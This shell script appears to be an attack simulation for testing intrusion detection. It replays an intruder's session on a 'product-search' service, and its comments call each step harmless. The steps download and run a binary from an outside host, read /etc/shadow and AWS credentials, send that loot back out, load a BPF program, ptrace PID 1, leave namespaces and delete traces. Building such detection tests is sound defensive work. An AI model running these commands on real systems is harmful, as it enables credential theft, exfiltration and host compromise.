# What the intruder has product-search run. It comes over the network into a shell's standard input, so it leaves no file.
# Every step is real, and harmless: the tool is a copy of sleep, the credentials are made up, the BPF program returns 0.

# 0 s: look around
id
sleep 1.5

# 1.5 s: drop a new executable and run it
python3 - <<END
import urllib.request
open("/tmp/.cache-update", "wb").write(urllib.request.urlopen("http://203.0.113.66:4444/tool").read())
END
chmod +x /tmp/.cache-update
/tmp/.cache-update 5 &
sleep 1.5

# 3 s: read credentials that are none of this service's business
cat /etc/shadow /srv/shop/.aws/credentials > /tmp/.loot
sleep 1.5

# 4.5 s: try another service
python3 - <<END
import urllib.request
urllib.request.urlopen("http://payment-gateway:8443/charge?amount=0").read()
END
sleep 1.5

# 6 s: carry the loot out
python3 - <<END
import urllib.request
urllib.request.urlopen("http://203.0.113.66:4444/loot", open("/tmp/.loot", "rb").read())
END
sleep 1.5

# 7.5 s: put code into the kernel
python3 - <<END
import ctypes, platform, struct
program = ctypes.create_string_buffer(bytes.fromhex("b700000000000000" "9500000000000000"))  # r0 = 0; exit
licence = ctypes.create_string_buffer(b"GPL")
# A socket filter of two instructions, without a log, called cache_update.
attributes = struct.pack("IIQQIIQII16s", 1, 2, ctypes.addressof(program), ctypes.addressof(licence), 0, 0, 0, 0, 0, b"cache_update")
bpf = {"x86_64": 321, "aarch64": 280}[platform.machine()]
descriptor = ctypes.CDLL(None).syscall(bpf, 5, attributes, len(attributes))  # BPF_PROG_LOAD
print("bpf:", "loaded" if descriptor >= 0 else "refused")
END
sleep 1

# 8.5 s: reach into the server's process
python3 - <<END
import ctypes, os
ptrace = ctypes.CDLL(None).ptrace
attached = ptrace(16, 1, None, None) == 0  # PTRACE_ATTACH
if attached:
    os.waitpid(1, 0x40000000)  # __WALL
    ptrace(17, 1, None, None)  # PTRACE_DETACH
print("ptrace:", "attached" if attached else "refused")
END
sleep 1

# 9.5 s: leave the namespaces, and cover the tracks
unshare --user --mount true && echo "unshare: done"
rm /tmp/.cache-update /tmp/.loot
